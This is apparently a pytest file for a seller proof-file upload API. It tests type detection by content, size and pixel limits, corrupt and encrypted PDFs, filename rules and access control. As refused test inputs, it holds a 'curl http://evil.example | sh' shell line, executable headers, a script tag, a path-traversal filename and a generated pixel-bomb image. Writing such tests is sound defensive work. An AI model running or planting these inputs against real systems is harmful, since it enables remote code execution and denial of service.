"""Proof files over the API (REF-4, issue 8 "Proof files"): PDF, PNG and JPEG recognised
by their content, size and pixel limits enforced while reading, nothing stored when a
file is refused, and only the uploading seller and platform staff may read one."""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import struct
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from unittest.mock import ANY

import pytest
from PIL import Image
from pypdf import PdfWriter
from sqlalchemy import func, select

from depositdesk.adapters.db.tables import attachments
from depositdesk.bootstrap import App
from depositdesk.domain.errors import ValidationProblem
from depositdesk.services.attachments import owned_by
from depositdesk.services.usecase import read
from tests.conftest import Api

UNKNOWN = "att_0123456789abcdef"
BOUNDARY = "proof-boundary-7d3c"


# --- files, made in the test --------------------------------------------------------


def pdf_bytes(pages: int = 2) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image_bytes(kind: str, size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 120, 200)).save(out, kind)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def huge_png(width: int = 20_000, height: int = 20_000) -> bytes:
    """A valid one-bit, one-colour PNG of width x height: ~50 KB, its 400,000,000
    pixels compressed from rows of zeros."""
    row = b"\x00" + bytes((width + 7) // 8)
    deflate = zlib.compressobj(9)
    idat = b"".join(deflate.compress(row) for _ in range(height)) + deflate.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def huge_jpeg() -> bytes:
    """A small JPEG whose frame header says 20,000 x 20,000."""
    data = bytearray(image_bytes("JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 20_000, 20_000)
    return bytes(data)


# --- sending them ---------------------------------------------------------------------


def multipart(*parts: tuple[str, str | None, bytes]) -> bytes:
    """A multipart/form-data body of (name, filename, bytes) parts, written by hand so
    that any name can be sent as it is."""
    out = b""
    for name, filename, data in parts:
        disposition = f'form-data; name="{name}"'
        if filename is not None:
            disposition += f'; filename="{filename}"'
        out += (
            (
                f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n"
                "Content-Type: application/octet-stream\r\n\r\n"
            ).encode()
            + data
            + b"\r\n"
        )
    return out + f"--{BOUNDARY}--\r\n".encode()


CONTENT_TYPE = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}


def post(api: Api, headers: dict[str, str], content: Any, **extra: str) -> Any:
    return api.c.post(
        "/v1/attachments", headers={**headers, **CONTENT_TYPE, **extra}, content=content
    )


def upload(
    api: Api, headers: dict[str, str], data: bytes, filename: str | None = "proof.pdf"
) -> Any:
    return post(api, headers, multipart(("file", filename, data)))


def uploaded(api: Api, headers: dict[str, str], data: bytes, filename: str) -> dict[str, Any]:
    r = upload(api, headers, data, filename)
    assert r.status_code == 201, r.text
    return r.json()


def refused(r: Any, status: int, field: str, rule: str) -> None:
    assert r.status_code == status, r.text
    assert r.headers["content-type"] == "application/problem+json"
    assert {"field": field, "rule": rule} in [
        {"field": e["field"], "rule": e["rule"]} for e in r.json()["errors"]
    ], r.text


def stored_files(app: App) -> list[Path]:
    root = app.settings.data_dir / "files"
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def rows(app: App) -> int:
    with app.engine.connect() as conn:
        return int(conn.execute(select(func.count()).select_from(attachments)).scalar_one())


def nothing_stored(app: App) -> None:
    assert rows(app) == 0
    assert stored_files(app) == []


@pytest.fixture
def owner(api: Api) -> dict[str, str]:
    api.seller("s1")
    return api.auth("owner", seller="s1")


# --- what is accepted -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "name", "media_type", "facts"),
    [
        ("pdf", "bank statement.pdf", "application/pdf", {"pages": 3, "width": None}),
        ("png", "screenshot.png", "image/png", {"width": 64, "height": 48, "pages": None}),
        ("jpeg", "receipt.jpg", "image/jpeg", {"width": 64, "height": 48, "pages": None}),
    ],
)
def test_ref4_upload_and_read_back_byte_identical(
    api: Api, app: App, owner: dict[str, str], kind: str, name: str, media_type: str, facts: dict
) -> None:
    data = pdf_bytes(3) if kind == "pdf" else image_bytes(kind.upper())
    sha = hashlib.sha256(data).hexdigest()

    created = uploaded(api, owner, data, name)

    assert set(created) == {
        "id",
        "filename",
        "media_type",
        "size",
        "sha256",
        "width",
        "height",
        "pages",
        "created_at",
    }
    assert created["id"].startswith("att_") and len(created["id"]) == 20
    assert (created["filename"], created["media_type"]) == (name, media_type)
    assert (created["size"], created["sha256"]) == (len(data), sha)
    assert created["created_at"] == "2026-03-02T09:00:00Z"
    assert {k: created[k] for k in facts} == facts

    one = api.c.get(f"/v1/attachments/{created['id']}", headers=owner)
    assert one.status_code == 200 and one.json() == created

    got = api.c.get(f"/v1/attachments/{created['id']}/content", headers=owner)
    assert got.status_code == 200
    assert got.content == data
    assert got.headers["content-type"] == media_type
    assert got.headers["content-disposition"] == (
        f"attachment; filename=\"{name}\"; filename*=UTF-8''{name.replace(' ', '%20')}"
    )
    assert got.headers["x-content-type-options"] == "nosniff"

    # Stored under DEPOSITDESK_DATA_DIR by the SHA-256 of its bytes.
    path = app.settings.data_dir / "files" / sha[:2] / sha[2:4] / sha
    assert stored_files(app) == [path]
    assert path.read_bytes() == data


def test_the_same_bytes_twice_are_two_records_and_one_stored_file(
    api: Api, app: App, owner: dict[str, str]
) -> None:
    data = pdf_bytes()
    first = uploaded(api, owner, data, "a.pdf")
    second = uploaded(api, owner, data, "b.pdf")
    assert first["id"] != second["id"] and first["sha256"] == second["sha256"]
    assert rows(app) == 2 and len(stored_files(app)) == 1


def test_a_utf8_name_is_kept_and_offered_safely(api: Api, owner: dict[str, str]) -> None:
    name = '退款证明 "final".pdf'
    created = uploaded(api, owner, pdf_bytes(), name)
    assert created["filename"] == name
    got = api.c.get(f"/v1/attachments/{created['id']}/content", headers=owner)
    assert got.headers["content-disposition"] == (
        'attachment; filename="____ _final_.pdf"; '
        "filename*=UTF-8''%E9%80%80%E6%AC%BE%E8%AF%81%E6%98%8E%20%22final%22.pdf"
    )


def test_the_extension_means_nothing_a_png_named_pdf_is_a_png(
    api: Api, owner: dict[str, str]
) -> None:
    created = uploaded(api, owner, image_bytes("PNG"), "proof.pdf")
    assert created["media_type"] == "image/png" and created["filename"] == "proof.pdf"


# --- what is refused, storing nothing -----------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x00" * 200,  # an ELF executable's header
        b"MZ\x90\x00\x03\x00\x00\x00" + bytes(52) + b"PE\x00\x00" + bytes(200),  # Windows PE
        b"#!/bin/sh\ncurl http://evil.example | sh\n",
        b"<html><script>alert(1)</script></html>",
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    ],
    ids=["elf", "pe", "shell", "html", "gif"],
)
def test_ref4_anything_else_named_proof_pdf_is_refused(
    api: Api, app: App, owner: dict[str, str], data: bytes
) -> None:
    r = upload(api, owner, data, "proof.pdf")
    refused(r, 422, "file", "unsupported_type")
    assert r.json()["code"] == "validation_error"
    nothing_stored(app)


def asgi_post(app: Any, headers: dict[str, str], chunks: Iterator[bytes]) -> tuple[int, bytes]:
    """POST /v1/attachments straight to the ASGI app, handing it the body one chunk at a
    time as it asks (the test client reads a streamed body whole before sending it)."""
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/v1/attachments",
        "raw_path": b"/v1/attachments",
        "query_string": b"",
        "root_path": "",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    status, body = 0, b""
    answered = asyncio.Event()

    async def receive() -> dict[str, Any]:
        if not answered.is_set():
            chunk = next(chunks, None)
            if chunk is not None:
                return {"type": "http.request", "body": chunk, "more_body": True}
            return {"type": "http.request", "body": b"", "more_body": False}
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        nonlocal status, body
        if message["type"] == "http.response.start":
            status = message["status"]
        elif message["type"] == "http.response.body":
            body += message.get("body", b"")
            if not message.get("more_body", False):
                answered.set()

    asyncio.run(app(scope, receive, send))
    return status, body


def test_a_50_mb_body_is_refused_unread(api: Api, app: App, owner: dict[str, str]) -> None:
    """Chunked (no Content-Length): the server stops reading just past the limit."""
    sent = 0

    def body() -> Iterator[bytes]:
        nonlocal sent
        head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"'
        yield head.encode() + b"\r\n\r\n%PDF-1.7\n"
        for _ in range(50):
            sent += 1
            yield bytes(1024 * 1024)
        yield f"\r\n--{BOUNDARY}--\r\n".encode()

    started = time.monotonic()
    status, answer = asgi_post(api.c.app, {**owner, **CONTENT_TYPE}, body())
    assert time.monotonic() - started < 5
    assert status == 413, answer
    problem = json.loads(answer)
    assert problem["code"] == "payload_too_large"
    assert problem["errors"] == [{"field": "file", "rule": "too_large", "message": ANY}]
    assert sent <= 11, f"the server read {sent} MiB of a 50 MiB body"
    nothing_stored(app)


def test_a_declared_50_mb_body_is_refused_before_reading(
    api: Api, app: App, owner: dict[str, str]
) -> None:
    data = b"%PDF-1.7\n" + bytes(50 * 1024 * 1024)
    started = time.monotonic()
    r = upload(api, owner, data)
    assert time.monotonic() - started < 5
    assert r.status_code == 413 and r.json()["code"] == "payload_too_large", r.text
    nothing_stored(app)


def test_the_size_limit_is_the_setting_counted_on_the_file(
    api: Api, app: App, owner: dict[str, str]
) -> None:
    png = image_bytes("PNG")
    app.settings = app.settings.model_copy(update={"attachment_max_bytes": len(png)})
    assert upload(api, owner, png, "exact.png").status_code == 201
    bigger = image_bytes("PNG", (300, 300))
    assert len(bigger) > len(png)
    refused(upload(api, owner, bigger, "over.png"), 413, "file", "too_large")
    assert rows(app) == 1


@pytest.mark.parametrize("kind", ["png", "jpeg"])
def test_ref4_a_20000_by_20000_image_is_refused_from_its_header(
    api: Api, app: App, owner: dict[str, str], kind: str
) -> None:
    data = huge_png() if kind == "png" else huge_jpeg()
    assert len(data) < 100_000
    started = time.monotonic()
    r = upload(api, owner, data, f"huge.{kind}")
    assert time.monotonic() - started < 2
    refused(r, 422, "file", "too_many_pixels")
    assert "20,000 x 20,000" in r.json()["detail"]
    nothing_stored(app)


def test_the_pixel_limit_is_the_setting(api: Api, app: App, owner: dict[str, str]) -> None:
    app.settings = app.settings.model_copy(update={"attachment_max_pixels": 64 * 48})
    assert upload(api, owner, image_bytes("PNG", (64, 48)), "ok.png").status_code == 201
    refused(
        upload(api, owner, image_bytes("PNG", (64, 49)), "no.png"), 422, "file", "too_many_pixels"
    )


def _corruptions() -> list[tuple[str, bytes]]:
    pdf, png, jpeg = pdf_bytes(), image_bytes("PNG"), image_bytes("JPEG")
    flipped = bytearray(png)
    flipped[40] ^= 0xFF  # inside IDAT: the chunk's checksum no longer matches
    return [
        ("pdf cut in half", pdf[: len(pdf) // 2]),
        ("pdf cut before %%EOF", pdf[:-12]),
        ("pdf without its xref", pdf.replace(b"xref", b"xxxx").replace(b"startxref", b"")),
        ("only a pdf header", b"%PDF-1.7\n%%EOF\n"),
        ("png cut", png[:-20]),
        ("png bad checksum", bytes(flipped)),
        ("png header only", png[:8]),
        ("jpeg header only", jpeg[:100]),
    ]


@pytest.mark.parametrize(("case", "data"), _corruptions(), ids=[c for c, _ in _corruptions()])
def test_truncated_or_corrupt_files_are_refused(
    api: Api, app: App, owner: dict[str, str], case: str, data: bytes
) -> None:
    refused(upload(api, owner, data, "proof.pdf"), 422, "file", "corrupt")
    nothing_stored(app)


def test_ref4_a_pdf_over_500_pages_is_refused(api: Api, app: App, owner: dict[str, str]) -> None:
    assert uploaded(api, owner, pdf_bytes(500), "long.pdf")["pages"] == 500
    refused(upload(api, owner, pdf_bytes(501), "longer.pdf"), 422, "file", "too_many_pages")
    assert rows(app) == 1


def test_a_password_protected_pdf_is_refused_a_restricted_one_is_taken(
    api: Api, app: App, owner: dict[str, str]
) -> None:
    def encrypted(user_password: str) -> bytes:
        writer = PdfWriter()
        writer.add_blank_page(width=595, height=842)
        writer.encrypt(user_password=user_password, owner_password="bank", algorithm="RC4-128")
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    refused(upload(api, owner, encrypted("secret"), "locked.pdf"), 422, "file", "encrypted")
    # Statements often come with an owner password only (no editing): anyone can open them.
    assert uploaded(api, owner, encrypted(""), "statement.pdf")["pages"] == 1


def test_an_empty_file_is_refused(api: Api, app: App, owner: dict[str, str]) -> None:
    refused(upload(api, owner, b"", "proof.pdf"), 422, "file", "empty")
    nothing_stored(app)


@pytest.mark.parametrize(
    "name",
    [
        None,
        "",
        "../../etc/passwd",
        "dir/proof.pdf",
        "a" * 256 + ".pdf",
        "proof\x07.pdf",
        "gpj.\u202epdf",
        "..",
        " ",
    ],
    ids=[
        "none",
        "empty",
        "traversal",
        "folder",
        "too-long",
        "control",
        "rtl-override",
        "dots",
        "blank",
    ],
)
def test_bad_filenames_are_refused(
    api: Api, app: App, owner: dict[str, str], name: str | None
) -> None:
    refused(upload(api, owner, pdf_bytes(), name), 422, "file.filename", "bad_filename")
    nothing_stored(app)


def test_every_problem_is_named_at_once(api: Api, app: App, owner: dict[str, str]) -> None:
    r = upload(api, owner, b"MZ not a proof", "a/b.exe")
    refused(r, 422, "file", "unsupported_type")
    refused(r, 422, "file.filename", "bad_filename")
    nothing_stored(app)


def test_255_characters_are_a_filename(api: Api, owner: dict[str, str]) -> None:
    name = "é" * 251 + ".pdf"
    assert uploaded(api, owner, pdf_bytes(), name)["filename"] == name


@pytest.mark.parametrize(
    ("case", "content", "headers", "status", "field", "rule"),
    [
        (
            "no file part",
            multipart(("note", None, b"hi")),
            CONTENT_TYPE,
            422,
            "body",
            "unknown_part",
        ),
        ("nothing", f"--{BOUNDARY}--\r\n".encode(), CONTENT_TYPE, 422, "file", "required"),
        (
            "two files",
            multipart(("file", "a.pdf", pdf_bytes()), ("file", "b.pdf", pdf_bytes())),
            CONTENT_TYPE,
            422,
            "file",
            "single",
        ),
        (
            "another part too",
            multipart(("file", "a.pdf", pdf_bytes()), ("comment", None, b"x")),
            CONTENT_TYPE,
            422,
            "body",
            "unknown_part",
        ),
        (
            "cut short",
            multipart(("file", "a.pdf", pdf_bytes()))[:-30],
            CONTENT_TYPE,
            422,
            "body",
            "multipart",
        ),
        ("not multipart", b"%PDF-1.7", {"Content-Type": "application/pdf"}, 415, None, None),
        (
            "no boundary",
            multipart(("file", "a.pdf", pdf_bytes())),
            {"Content-Type": "multipart/form-data"},
            422,
            "body",
            "multipart",
        ),
        ("garbage", b"\x00\x01garbage", CONTENT_TYPE, 422, "body", "multipart"),
    ],
)
def test_malformed_bodies_are_refused(
    api: Api,
    app: App,
    owner: dict[str, str],
    case: str,
    content: bytes,
    headers: dict[str, str],
    status: int,
    field: str | None,
    rule: str | None,
) -> None:
    r = api.c.post("/v1/attachments", headers={**owner, **headers}, content=content)
    if field is None:
        assert r.status_code == status and r.json()["code"] == "unsupported_media_type", r.text
    else:
        refused(r, status, field, rule or "")
    nothing_stored(app)


def test_an_upload_by_httpx_files_works(api: Api, owner: dict[str, str]) -> None:
    """As a client library sends it (its own boundary, the part's Content-Type)."""
    r = api.c.post(
        "/v1/attachments",
        headers=owner,
        files={"file": ("scan.jpg", image_bytes("JPEG"), "application/octet-stream")},
    )
    assert r.status_code == 201, r.text
    assert r.json()["media_type"] == "image/jpeg"


# --- who may upload and read ----------------------------------------------------------


@pytest.mark.parametrize("role", ["integration", "auditor"])
def test_integration_and_auditor_may_not_upload(
    api: Api, app: App, owner: dict[str, str], role: str
) -> None:
    r = upload(api, api.auth(role), pdf_bytes())
    assert r.status_code == 403 and r.json()["code"] == "forbidden", r.text
    nothing_stored(app)


def test_without_a_token_nothing_is_read(api: Api, app: App) -> None:
    r = api.c.post(
        "/v1/attachments", headers=CONTENT_TYPE, content=multipart(("file", "a.pdf", pdf_bytes()))
    )
    assert r.status_code == 401
    nothing_stored(app)


@pytest.mark.parametrize("role", ["owner", "admin", "staff"])
def test_each_seller_role_uploads_and_the_sellers_users_and_platform_read(
    api: Api, owner: dict[str, str], role: str
) -> None:
    api.seller("s2")
    created = uploaded(api, api.auth(role, seller="s1"), pdf_bytes(), "proof.pdf")
    path = f"/v1/attachments/{created['id']}"

    readers = {
        "the uploader's owner": owner,
        "the uploader's staff": api.auth("staff", seller="s1"),
        "platform_admin": api.admin,
        "reviewer": api.auth("reviewer"),
        "auditor": api.auth("auditor"),
    }
    for who, headers in readers.items():
        for suffix in ("", "/content"):
            assert api.c.get(path + suffix, headers=headers).status_code == 200, who

    other = api.auth("owner", seller="s2")
    for suffix in ("", "/content"):
        r = api.c.get(path + suffix, headers=other)
        assert r.status_code == 404 and r.json()["code"] == "not_found"
        assert r.json() == {
            **api.c.get(f"/v1/attachments/{UNKNOWN}{suffix}", headers=other).json(),
            "detail": f"attachment {created['id']} not found",
        }
        r = api.c.get(path + suffix, headers=api.integration)
        assert r.status_code == 403


@pytest.mark.parametrize("role", ["platform_admin", "reviewer"])
def test_platform_staff_upload_files_no_seller_sees(
    api: Api, owner: dict[str, str], role: str
) -> None:
    created = uploaded(api, api.auth(role), image_bytes("PNG"), "note.png")
    path = f"/v1/attachments/{created['id']}"
    assert api.c.get(path, headers=api.auth("auditor")).status_code == 200
    assert api.c.get(path, headers=owner).status_code == 404


@pytest.mark.parametrize(
    ("attachment_id", "status"),
    [
        (UNKNOWN, 404),
        ("att_0123456789ABCDEF", 422),
        ("att_0123456789abcdef0", 422),
        ("att_0123456789abcdef%0A", 422),
        ("whe_0123456789abcdef", 422),
    ],
)
def test_ids_are_matched_in_full(
    api: Api, owner: dict[str, str], attachment_id: str, status: int
) -> None:
    for suffix in ("", "/content"):
        r = api.c.get(f"/v1/attachments/{attachment_id}{suffix}", headers=owner)
        assert r.status_code == status, (suffix, r.text)


# --- the helper the refund application uses ---------------------------------------------------


def test_owned_by_gives_the_sellers_attachments_and_names_the_others(
    api: Api, app: App, owner: dict[str, str]
) -> None:
    api.seller("s2")
    a = uploaded(api, owner, pdf_bytes(), "a.pdf")["id"]
    b = uploaded(api, api.auth("staff", seller="s1"), image_bytes("PNG"), "b.png")["id"]
    foreign = uploaded(api, api.auth("owner", seller="s2"), pdf_bytes(), "c.pdf")["id"]
    staff_file = uploaded(api, api.auth("reviewer"), pdf_bytes(), "d.pdf")["id"]

    got = read(app, owned_by, "s1", [b, a, b])
    assert [x.id for x in got] == [b, a]
    assert got[0].media_type == "image/png" and got[1].pages == 2
    assert read(app, owned_by, "s1", []) == []

    with pytest.raises(ValidationProblem) as refused_ids:
        read(app, owned_by, "s1", [a, foreign, UNKNOWN, staff_file, "nonsense\n"])
    [problem] = refused_ids.value.problems
    assert (problem.field, problem.rule) == ("attachment_ids", "unknown_attachment")
    for named in (foreign, UNKNOWN, staff_file, "nonsense"):
        assert named in problem.message
    assert a not in problem.message
